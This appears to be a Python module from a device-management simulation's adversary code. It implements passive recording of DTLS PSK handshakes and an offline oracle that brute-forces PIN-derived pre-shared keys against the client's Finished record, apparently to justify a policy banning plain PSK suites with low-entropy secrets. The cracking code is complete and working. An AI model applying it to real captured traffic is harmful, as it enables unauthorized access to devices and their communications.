"""Offline guessing of a DTLS pre-shared key from one recorded handshake (seed 004 §7.1).

Seed 004 §7.1 forbids the plain PSK suites (TLS_PSK_WITH_AES_128_CCM_8, TLS_PSK_WITH_AES_128_CBC_SHA256)
with "only a low-entropy pre-shared secret" and allows TLS_ECDHE_PSK_WITH_AES_128_CBC_SHA256 for a
PIN, a password or a serial number. This module is why: on a plain PSK suite everything that keys
the client's Finished record except the PSK crosses the wire in clear, so one recorded handshake
tests any number of guesses with no one counting them:

- premaster secret (RFC 4279 §2): ``uint16(N) || N zero octets || uint16(N) || psk``; with ECDHE-PSK
  (RFC 5489 §2) the zeros are the ECDH shared secret, which a passive observer lacks;
- master secret (RFC 5246 §8.1, TLS 1.2 PRF with SHA-256): ``PRF(pms, "master secret",
  client_random + server_random)``, or with the extended master secret (RFC 7627 §4, which Mbed TLS
  negotiates by default) ``PRF(pms, "extended master secret", SHA-256(handshake messages up to and
  including the ClientKeyExchange))``; DTLS hashes each message with its 12-octet header as if
  unfragmented, and leaves out the first ClientHello and the HelloVerifyRequest (RFC 6347 §4.2.1,
  §4.2.6);
- key block (RFC 5246 §6.3): ``PRF(master, "key expansion", server_random + client_random)``;
- the guess is right when the client's first epoch-1 record (its Finished) authenticates under the
  client write keys: the AES-CCM-8 tag (RFC 6655 §3: nonce = client_write_IV(4) || explicit
  nonce(8); RFC 6347 §4.1.2.1: the sequence number is epoch || seq), or the HMAC-SHA256 of the CBC
  suite, over the ciphertext with encrypt-then-MAC (RFC 7366 §3, negotiated by Mbed TLS for CBC
  suites) or over the plaintext after CBC decryption and padding otherwise (RFC 5246 §6.2.3.2).

A wrong guess passes by chance with probability 2^-64 (CCM-8) or 2^-256 (HMAC-SHA256).

Choices (ours): the recorder follows one association (one client address) and keeps at most
:data:`MAX_MESSAGES` handshake messages per direction; anything that does not parse is ignored (the
attacker sees hostile bytes too). The PIN-to-key map is the caller's (``key_of``): how a PIN becomes
the PSK is the bootstrap method's, not the protocol's. An attacker that knows the ECDH secret of an
ECDHE-PSK handshake (because it was the server end: ``dtls_fake_server``, the active attack RFC 5489
§5 and RFC 4279 §7 warn of) gives the ECDH shared secret as ``other_secret``.
"""
from __future__ import annotations

import hashlib
import hmac
import itertools
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESCCM

from dmsim.base.errors import DecodeError
from dmsim.network.dm.tls import psk_identity_of, server_hello_fields
from dmsim.network.lwm2m import dtls_policy
from dmsim.network.lwm2m import dtls_records as wire
from dmsim.sim.agents.adversary import dtls_hello

EXT_ENCRYPT_THEN_MAC, EXT_EXTENDED_MASTER_SECRET = 0x0016, 0x0017
MAX_MESSAGES = 16  # handshake messages kept per direction (a PSK handshake has 3 or 4)
_CCM8, _CBC_SHA256 = dtls_policy.PSK_AES_128_CCM_8.code, dtls_policy.PSK_AES_128_CBC_SHA256.code
_ECDHE_PSK = dtls_policy.ECDHE_PSK_AES_128_CBC_SHA256.code
_MAC, _KEY = 32, 16


def prf_sha256(secret: bytes, label: bytes, seed: bytes, size: int) -> bytes:
    """Return ``size`` octets of the TLS 1.2 PRF with SHA-256 (RFC 5246 §5)."""
    out, a, data = b"", label + seed, label + seed
    while len(out) < size:
        a = hmac.digest(secret, a, "sha256")
        out += hmac.digest(secret, a + data, "sha256")
    return out[:size]


def psk_premaster(psk: bytes, other_secret: bytes | None = None) -> bytes:
    """Return the premaster secret of RFC 4279 §2 (``other_secret`` None: N zero octets) or, with
    the ECDH shared secret as ``other_secret``, of RFC 5489 §2."""
    other = bytes(len(psk)) if other_secret is None else bytes(other_secret)
    return len(other).to_bytes(2, "big") + other + len(psk).to_bytes(2, "big") + bytes(psk)


def hello_extensions(body: bytes) -> set[int]:
    """Return the extension types of a ServerHello body (RFC 5246 §7.4.1.4); DecodeError when cut."""
    at = 35 + (body[34] if len(body) > 34 else 0) + 3  # version, random, session_id, suite, compression
    return set(dtls_hello.extensions_at(body, at, "ServerHello"))


@dataclass(frozen=True)
class RecordedHandshake:
    """What a passive observer of one DTLS PSK handshake holds: the randoms, the suite, the
    negotiated extensions, the PSK identity, the transcript to the ClientKeyExchange, the
    client's Finished record (ciphertext) and the ClientKeyExchange body (with ECDHE-PSK, the
    client's ECDH point follows the identity, RFC 5489 §2)."""

    client_random: bytes
    server_random: bytes
    suite: int
    extended_master_secret: bool
    encrypt_then_mac: bool
    identity: bytes
    transcript: bytes
    finished: wire.Record
    key_exchange: bytes = b""

    @property
    def suite_name(self) -> str:
        known = dtls_policy.BY_CODE.get(self.suite)
        return known.iana if known is not None else f"{self.suite:#06x}"

    def no_oracle(self, other_secret: bytes | None = None) -> str | None:
        """Return why a guess cannot be tested on this handshake, or None when it can."""
        if self.suite == _ECDHE_PSK and other_secret is None:
            return ("ECDHE-PSK (RFC 5489): the premaster holds the ECDH shared secret, which a passive "
                    "observer lacks; a PSK guess cannot be checked offline (seed 004 §7.1)")
        if self.suite not in (_CCM8, _CBC_SHA256, _ECDHE_PSK):
            return f"suite {self.suite_name} is not a PSK suite this search handles"
        return None


def handshake_message(kind: int, seq: int, body: bytes) -> bytes:
    """Return the handshake message unfragmented, as DTLS sends and hashes it (RFC 6347 §4.2.2,
    §4.2.6: fragment_offset 0, fragment_length the length)."""
    size = len(body).to_bytes(3, "big")
    return bytes([kind]) + size + seq.to_bytes(2, "big") + bytes(3) + size + body


class HandshakeRecorder:
    """Follows one association's datagrams (both directions) and assembles a
    :class:`RecordedHandshake` once the client's Finished record went by."""

    def __init__(self) -> None:
        self._sides = {True: wire.Reassembler(), False: wire.Reassembler()}  # from_client -> reassembly
        self._messages: dict[bool, list[tuple[int, int, bytes]]] = {True: [], False: []}
        self._finished: wire.Record | None = None

    def feed(self, from_client: bool, datagram: bytes) -> RecordedHandshake | None:
        """Take one datagram (``from_client``: client to server); return the handshake once whole."""
        try:
            records = wire.split_records(datagram)
        except DecodeError:
            return None
        for record in records:
            if record.epoch == 0 and record.content_type == wire.CT_HANDSHAKE:
                self._handshake(from_client, record)
            elif (from_client and record.epoch == 1 and record.content_type == wire.CT_HANDSHAKE
                  and self._finished is None):
                self._finished = record
        return self.result()

    def _handshake(self, from_client: bool, record: wire.Record) -> None:
        kept = self._messages[from_client]
        try:
            for fragment in wire.split_handshake(record.fragment):
                for message in self._sides[from_client].add(fragment):
                    if len(kept) < MAX_MESSAGES:
                        kept.append(message)
        except DecodeError:
            return

    def result(self) -> RecordedHandshake | None:
        """Return the recorded handshake, or None while a part is missing or does not parse."""
        if self._finished is None:
            return None
        client, server = self._messages[True], self._messages[False]
        hello = next((m for m in server if m[0] == wire.HS_SERVER_HELLO), None)
        hellos = [m for m in client if m[0] == wire.HS_CLIENT_HELLO]
        exchange = next((m for m in client if m[0] == wire.HS_CLIENT_KEY_EXCHANGE), None)
        if hello is None or not hellos or exchange is None:
            return None
        first = max(hellos, key=lambda m: m[1])  # the one answered by the ServerHello (after a HelloVerifyRequest)
        flight = sorted(m for m in server if m[0] != wire.HS_HELLO_VERIFY_REQUEST and m[1] >= hello[1])
        ours = sorted(m for m in client if first[1] < m[1] <= exchange[1])
        try:
            _version, suite = server_hello_fields(hello[2])
            extensions = hello_extensions(hello[2])
            identity = psk_identity_of(exchange[2])
            client_random = wire.parse_client_hello(first[2]).random
        except (DecodeError, IndexError):
            return None
        transcript = b"".join(handshake_message(k, s, b) for k, s, b in [first, *flight, *ours])
        return RecordedHandshake(client_random, hello[2][2:34], suite,
                                 EXT_EXTENDED_MASTER_SECRET in extensions, EXT_ENCRYPT_THEN_MAC in extensions,
                                 identity, transcript, self._finished, exchange[2])


class GuessOracle:
    """Tests PSK guesses against a :class:`RecordedHandshake` (module doc); ValueError when the
    handshake gives no oracle (:meth:`RecordedHandshake.no_oracle`)."""

    def __init__(self, hs: RecordedHandshake, other_secret: bytes | None = None):
        reason = hs.no_oracle(other_secret)
        if reason:
            raise ValueError(reason)
        self.hs, self.other_secret = hs, other_secret
        if hs.extended_master_secret:
            self._label, self._seed = b"extended master secret", hashlib.sha256(hs.transcript).digest()
        else:
            self._label, self._seed = b"master secret", hs.client_random + hs.server_random
        self._expansion = hs.server_random + hs.client_random
        record = hs.finished
        self._header = record.raw[3:11] + bytes([record.content_type]) + record.raw[1:3]  # seq_num, type, version
        self._fragment = record.fragment
        self._ccm = hs.suite == _CCM8
        self._block = (_KEY * 2 + 4) if self._ccm else (_MAC if hs.encrypt_then_mac else 2 * _MAC + _KEY)

    def keys(self, psk: bytes) -> bytes:
        """Return the start of the key block that ``psk`` gives (what :meth:`check` needs of it)."""
        master = prf_sha256(psk_premaster(psk, self.other_secret), self._label, self._seed, 48)
        return prf_sha256(master, b"key expansion", self._expansion, self._block)

    def check(self, psk: bytes) -> bool:
        """Return whether ``psk`` authenticates the client's Finished record."""
        block, frag = self.keys(psk), self._fragment
        if self._ccm:
            if len(frag) < 16:
                return False
            aad = self._header + (len(frag) - 16).to_bytes(2, "big")
            try:
                AESCCM(block[:_KEY], tag_length=8).decrypt(block[2 * _KEY:2 * _KEY + 4] + frag[:8], frag[8:], aad)
            except InvalidTag:
                return False
            return True
        mac_key = block[:_MAC]
        if self.hs.encrypt_then_mac:
            if len(frag) < 16 + _MAC:
                return False
            body = frag[:-_MAC]
            expected = hmac.digest(mac_key, self._header + len(body).to_bytes(2, "big") + body, "sha256")
            return hmac.compare_digest(expected, frag[-_MAC:])
        return self._cbc_mac_then_encrypt(mac_key, block[2 * _MAC:2 * _MAC + _KEY])

    def _cbc_mac_then_encrypt(self, mac_key: bytes, enc_key: bytes) -> bool:
        frag = self._fragment
        if len(frag) < 16 + 48 or len(frag) % 16:
            return False
        decryptor = Cipher(algorithms.AES(enc_key), modes.CBC(frag[:16])).decryptor()
        plain = decryptor.update(frag[16:]) + decryptor.finalize()
        pad = plain[-1]
        if pad + 1 + _MAC > len(plain) or plain[-pad - 1:] != bytes([pad]) * (pad + 1):
            return False
        content, mac = plain[:-pad - 1 - _MAC], plain[-pad - 1 - _MAC:-pad - 1]
        expected = hmac.digest(mac_key, self._header + len(content).to_bytes(2, "big") + content, "sha256")
        return hmac.compare_digest(expected, mac)


def pin_key(pin: str) -> bytes:
    """The default PIN-to-PSK map: the PIN's ASCII digits are the key (a PIN typed as the secret)."""
    return pin.encode("ascii")


def pins(digits: int, start: int = 0) -> Iterable[str]:
    """Yield every ``digits``-digit PIN once, upwards from ``start`` (mod 10^digits)."""
    space = 10 ** digits
    start %= space
    for n in itertools.chain(range(start, space), range(start)):
        yield f"{n:0{digits}d}"


def search(oracle: GuessOracle, candidates: Iterable[str], key_of: Callable[[str], bytes] = pin_key,
           limit: int | None = None) -> tuple[str | None, int]:
    """Return (the candidate whose key passes ``oracle``, guesses tried), trying at most ``limit``;
    (None, tried) when none does."""
    tried = 0
    for tried, candidate in enumerate(itertools.islice(candidates, limit), start=1):
        if oracle.check(key_of(candidate)):
            return candidate, tried
    return None, tried


__all__ = ["RecordedHandshake", "HandshakeRecorder", "GuessOracle", "prf_sha256", "psk_premaster",
           "hello_extensions", "handshake_message", "pin_key", "pins", "search"]
